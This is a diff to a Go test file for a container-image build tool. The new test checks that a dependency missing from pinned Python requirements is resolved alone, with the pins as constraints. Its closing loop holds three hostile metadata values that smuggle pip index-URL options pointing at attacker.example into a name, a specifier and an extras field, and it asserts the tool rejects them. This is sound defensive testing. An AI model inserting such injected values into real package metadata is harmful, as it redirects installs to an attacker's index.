@@ -11,6 +11,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 	"github.com/google/go-cmp/cmp/cmpopts"
 	"github.com/imagebuild/imagebuild/graph"
+	"github.com/moby/buildkit/solver/pb"
 )
 
 func TestParseRequirements(t *testing.T) {
@@ -234,5 +235,102 @@ func TestPinnedOnlyResolvedWhenOpen(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestPinnedOnlyResolvesWhatThePinsLeaveOut: where the steps ahead of a
+// file that pins every requirement find a dependency the pins leave out,
+// the build resolves that dependency alone, the pins its constraints, not
+// the whole file (whose sdists' metadata pip would prepare again); the
+// image then has the pins from their steps ahead and the rest from steps
+// of their own. A dependency the pins name in a way the step does not
+// read (an index's metadata may hold anything) is left to a resolve of the
+// whole file.
+func TestPinnedOnlyResolvesWhatThePinsLeaveOut(t *testing.T) {
+	ctx := contextWith(t, "requirements.txt", "hiredis==2.3.2\nimagebuild-edit-top==1.0\n")
+	img, err := PythonSlim{}.Image(Inputs{Platform: amd64, Context: ctx})
+	if err != nil {
+		t.Fatal(err)
+	}
+	x := img.Expand
+	if x == nil || !x.Later || x.Narrow == nil || len(x.Ahead) != 2 {
+		t.Fatalf("want a resolve step held back behind two steps ahead, and a narrower one, got %+v", x)
+	}
+	h, top := strings.Repeat("b2", 32), strings.Repeat("c3", 32)
+	rec := func(sha, requires string) []byte {
+		return []byte(`{"sha256": "` + sha + `", "requires": [` + requires + `]}`)
+	}
+	records := [][]byte{rec(h, ""), rec(top, `{"name": "imagebuild-edit-ext", "specifier": "==1.0", "extras": []}, {"name": "hiredis", "specifier": ">=2", "extras": []}`)}
+	if _, err := x.Root(nil, records); !errors.Is(err, graph.ErrNeedStep) {
+		t.Fatalf("Root without a resolve = %v, want ErrNeedStep", err)
+	}
+	st, ok := x.Narrow(records)
+	if !ok {
+		t.Fatal("Narrow gave no step for a dependency the pins leave out")
+	}
+	narrow := img
+	narrow.Root, narrow.Expand = st, nil
+	_, ops, _ := marshal(t, narrow)
+	files := map[string]string{}
+	for _, o := range ops {
+		if f, ok := o.Op.(*pb.Op_File); ok {
+			for _, a := range f.File.Actions {
+				if mk := a.GetMkfile(); mk != nil {
+					files[mk.Path] = string(mk.Data)
+				}
+			}
+		}
+	}
+	var resolves int
+	for _, e := range execs(ops) {
+		if slices.Contains(e.Meta.Args, "resolve") {
+			resolves++
+		}
+	}
+	if resolves != 1 || files["/requirements.txt"] != "-c constraints.txt\nimagebuild-edit-ext==1.0\n" ||
+		files["/constraints.txt"] != "hiredis==2.3.2\nimagebuild-edit-top==1.0\n" {
+		t.Errorf("the narrower step: %d resolve steps, files %q; want one resolving imagebuild-edit-ext==1.0 alone with the pins as constraints", resolves, files)
+	}
+
+	// Its output: the dependency and its own, and a pin (pip reached it
+	// through them), which the image takes from its step ahead.
+	ext, a := strings.Repeat("d4", 32), strings.Repeat("e5", 32)
+	out := lockJSON(t, []Distribution{
+		{Name: "hiredis", Version: "2.3.2", Hashes: []string{h}},
+		{Name: "imagebuild-edit-a", Version: "1.0", Hashes: []string{a}},
+		{Name: "imagebuild-edit-ext", Version: "1.0", Hashes: []string{ext}},
+	})
+	root, err := x.Root(map[string][]byte{"/" + lockFileName: out}, records)
+	if err != nil {
+		t.Fatal(err)
+	}
+	img.Root, img.Expand = root.Root, nil
+	_, ops, _ = marshal(t, img)
+	var aheadOf, ownOf []string
+	for _, e := range execs(ops) {
+		args := e.Meta.Args
+		if len(args) < 5 || args[2] != "install" {
+			continue
+		}
+		if args[len(args)-1] == aheadFile {
+			aheadOf = append(aheadOf, args[4])
+		} else {
+			ownOf = append(ownOf, args[4])
+		}
+	}
+	slices.Sort(aheadOf)
+	slices.Sort(ownOf)
+	if !slices.Equal(aheadOf, []string{"hiredis==2.3.2", "imagebuild-edit-top==1.0"}) || !slices.Equal(ownOf, []string{"imagebuild-edit-a==1.0", "imagebuild-edit-ext==1.0"}) {
+		t.Errorf("the image installs %v from steps ahead and %v from their own; want the pins ahead, the rest on their own", aheadOf, ownOf)
+	}
+
+	for _, hostile := range []string{
+		`{"name": "x --index-url http://attacker.example/", "specifier": "", "extras": []}`,
+		`{"name": "x", "specifier": ">=1 --extra-index-url=http://attacker.example/", "extras": []}`,
+		`{"name": "x", "specifier": "", "extras": ["a]\n--index-url http://attacker.example/ #"]}`,
+	} {
+		if _, ok := x.Narrow([][]byte{rec(h, ""), rec(top, hostile)}); ok {
+			t.Errorf("Narrow wrote a requirements file of the dependency %s", hostile)
+		}
 	}
 }
